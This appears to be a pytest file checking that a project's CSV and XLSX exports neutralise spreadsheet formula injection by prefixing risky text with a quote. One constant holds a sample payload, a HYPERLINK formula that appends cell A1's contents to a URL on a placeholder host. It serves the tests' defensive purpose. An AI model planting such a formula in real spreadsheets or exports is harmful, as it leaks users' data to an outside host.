"""Text that a spreadsheet would run as a formula leaves QLS as plain text."""

import datetime as dt
import doctest
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from qls.core import exports
from qls.core.exports import neutralise_formula, safe_row, table_response

ATTACK = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_leading_quote(start):
    assert neutralise_formula(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize(
    "value", [-3, -2.5, Decimal("-1.25"), 0, None, dt.date(2024, 1, 1), True, "Ward 1", ""]
)
def test_numbers_dates_and_plain_text_pass_through_unchanged(value):
    assert neutralise_formula(value) == value
    assert type(neutralise_formula(value)) is type(value)


def test_safe_row_escapes_only_the_text_cells():
    assert safe_row(["=1+2", -4, "ok", "@SUM(A1)"]) == ["'=1+2", -4, "ok", "'@SUM(A1)"]


def test_csv_export_writes_a_formula_title_as_text():
    response = table_response("Projects", ["Title", "Change"], [[ATTACK, -3]], "csv")
    lines = response.content.decode("utf-8-sig").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert lines[1].endswith(",-3")


def test_xlsx_export_writes_a_formula_title_as_text_and_keeps_numbers_numeric():
    response = table_response("Projects", ["Title", "Change"], [[ATTACK, -3]], "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    title, change = next(sheet.iter_rows(min_row=2))
    assert title.data_type == "s"
    assert title.value == "'" + ATTACK
    assert change.data_type == "n"
    assert change.value == -3


def test_a_header_cannot_be_a_formula_either():
    response = table_response("x", ["=cmd"], [], "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.cell(row=1, column=1).value == "'=cmd"
    assert sheet.cell(row=1, column=1).data_type == "s"


def test_examples_in_the_helper_docstring_hold():
    assert doctest.testmod(exports).failed == 0
